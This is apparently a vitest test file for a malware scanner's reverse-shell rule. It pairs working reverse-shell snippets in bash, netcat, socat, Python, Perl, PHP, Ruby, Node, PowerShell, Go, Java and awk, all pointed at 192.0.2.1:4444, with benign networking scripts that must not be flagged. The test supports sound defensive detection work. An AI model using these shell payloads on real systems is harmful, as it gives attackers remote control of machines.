import { describe, expect, it } from 'vitest'
import { ask, device, execute, j, php, sh } from './testing/ask.ts'

const suspected: readonly (readonly [string, string])[] = [
  ['bash on a socket with a number', `#!/bin/bash\n${j('s', 'h')} -i 5<> ${device} 0<&5 1>&5 2>&5\n`],
  [
    'bash that runs line by line',
    `#!/bin/bash\n${execute} 5<>${device}\ncat <&5 | while read line; do $line 2>&5 >&5; done\n`,
  ],
  ['bash in bash', `#!/bin/sh\nbash -c '${j('ba', 'sh')} -i >& ${device} 0>&1'\n`],
  ['netcat of a box with a shell', `#!/bin/sh\nbusybox ${j('n', 'c')} 192.0.2.1 4444 ${j('-', 'e')} sh\n`],
  ['ncat with a long option', `#!/bin/sh\n${j('n', 'c')}at --${execute} ${sh} 192.0.2.1 4444\n`],
  [
    'a pipe with a name and netcat',
    `#!/bin/sh\nrm -f /tmp/f; ${j('mk', 'fifo')} /tmp/f; cat /tmp/f | ${j('s', 'h')} -i 2>&1 | ${j('n', 'c')} 192.0.2.1 4444 > /tmp/f\n`,
  ],
  [
    'a pipe with a name, encrypted',
    `#!/bin/sh\n${j('mk', 'fifo')} /tmp/s; ${sh} -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s\n`,
  ],
  ['a relay with a shell', `#!/bin/sh\n${j('so', 'cat')} TCP:192.0.2.1:4444 EXEC:'bash -li',pty,stderr,setsid\n`],
  ['two telnets around a shell', `#!/bin/sh\ntelnet 192.0.2.1 4444 | ${sh} | telnet 192.0.2.1 4445\n`],
  [
    'Python with a list of descriptors',
    `import socket,subprocess,os\ns=socket.socket()\ns.connect(("192.0.2.1",4444))\n[os.${j('du', 'p2')}(s.fileno(),fd) for fd in (0,1,2)]\nsubprocess.call(["${sh}","-i"])\n`,
  ],
  [
    'Perl on a socket object',
    `#!/usr/bin/perl\nuse IO::Socket;\n$c=new IO::Socket::${j('IN', 'ET')}(PeerAddr,"192.0.2.1:4444");STDIN->${j('fd', 'open')}($c,r);$~->${j('fd', 'open')}($c,w);system$_ while<>;\n`,
  ],
  [
    'PHP with the shell in a variable',
    `${php}\n$shell = 'uname -a; w; id; ${sh} -i';\n$sock = ${j('fsock', 'open')}($ip, $port, $errno, $errstr, 30);\n$process = ${j('proc', '_open')}($shell, $descriptorspec, $pipes);\n`,
  ],
  [
    'Ruby that runs line by line',
    `require 'socket'\nc=${j('TCP', 'Socket')}.new("192.0.2.1","4444");while(cmd=c.gets);IO.${j('po', 'pen')}(cmd,"r"){|io|c.print io.read}end\n`,
  ],
  [
    'Node with the port in a variable',
    `const net = require("net"), cp = require("${j('child', '_process')}"), sh = cp.spawn("${sh}", []);\nconst client = new net.Socket();\nclient.connect(port, "192.0.2.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); });\n`,
  ],
  [
    'PowerShell on a stream',
    `$client = New-Object System.Net.Sockets.${j('TCP', 'Client')}('192.0.2.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (${j('ie', 'x')} $data 2>&1 | Out-String );$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()`,
  ],
  [
    'Go',
    `package main\nimport("net";"os/exec")\nfunc main(){c,_:=net.${j('Di', 'al')}("tcp","192.0.2.1:4444");cmd:=exec.${j('Comm', 'and')}("${sh}");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}`,
  ],
  [
    'Java',
    `String host="192.0.2.1";int port=4444;Process p=new ${j('Process', 'Builder')}("${sh}").redirectErrorStream(true).start();Socket s=new ${j('Soc', 'ket')}(host,port);InputStream pi=p.getInputStream(),si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutputStream();`,
  ],
  [
    'awk',
    `#!/usr/bin/awk -f\nBEGIN {s = "${j('/inet', '/tcp/0/192.0.2.1/4444')}"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}`,
  ],
]
const ordinary: readonly (readonly [string, string])[] = [
  [
    'a script that waits for a port',
    `#!/bin/bash\nfor i in 1 2 3; do (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null && break; sleep 1; done\n`,
  ],
  ['a forwarded port', `#!/bin/sh\nsocat TCP-LISTEN:8080,fork TCP:localhost:80\n`],
  ['a check of a port', `#!/bin/sh\nnc -z -w 2 localhost 22 || exit 1\necho sh -e\n`],
  [
    'a page fetched by bash',
    `#!/bin/bash\nexec 3<>/dev/tcp/example.org/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n`,
  ],
  ['ssh through netcat', `#!/bin/sh\nexec ssh -o ProxyCommand="nc %h %p" host\n`],
  [
    'Node that talks to a program',
    `const net = require('net'); const { spawn } = require('child_process');\nconst s = net.connect(8080, 'localhost'); const c = spawn('git', ['status']); process.stdin.pipe(c.stdin);\n`,
  ],
  [
    'Python that answers with a date',
    `import socket, subprocess\ns = socket.create_server(("", 80))\nc, _ = s.accept()\nsubprocess.run(["/bin/sh", "-c", "date"], stdout=c.fileno())\n`,
  ],
  ['Java that starts a program', `Process p = new ProcessBuilder("/bin/sh", "-c", "date").start(); Socket s = null;`],
  [
    'Go that sends a date',
    `package main\nimport("net";"os/exec")\nfunc main(){ c,_ := net.Dial("tcp","h:1"); out,_ := exec.Command("/bin/sh","-c","date").Output(); c.Write(out) }`,
  ],
]

describe('reverse shells', () => {
  it.each(suspected)('suspected: %s', (_, content) => expect(ask(content)).toEqual(['Script.ReverseShell']))
  it.each(ordinary)('ordinary: %s', (_, content) => expect(ask(content)).toEqual([]))
})
